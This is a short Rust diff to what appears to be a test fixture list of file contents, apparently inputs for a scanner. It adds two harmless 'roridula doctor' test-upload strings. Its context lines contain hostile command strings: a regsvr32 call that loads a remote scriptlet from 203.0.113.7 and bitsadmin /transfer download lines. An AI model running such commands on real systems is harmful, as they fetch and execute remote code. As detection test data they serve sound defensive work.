@@ -75,6 +75,8 @@ fn files() -> Vec<Vec<u8>> {
         "regsvr32 /s /i:http://203.0.113.7/x scrobj.dll",
         "bitsadmin /transfer x",
         "bitsadmin\t/transfer x",
+        "This is a test upload of `roridula doctor`: readable text and nothing else.\nSent today.\n",
+        "In front: This is a test upload of `roridula doctor`: readable text and nothing else.\n",
     ];
     files.extend(texts.iter().map(|text| text.as_bytes().to_vec()));
     // Noise of a fixed seed (xorshift): the same at every run.
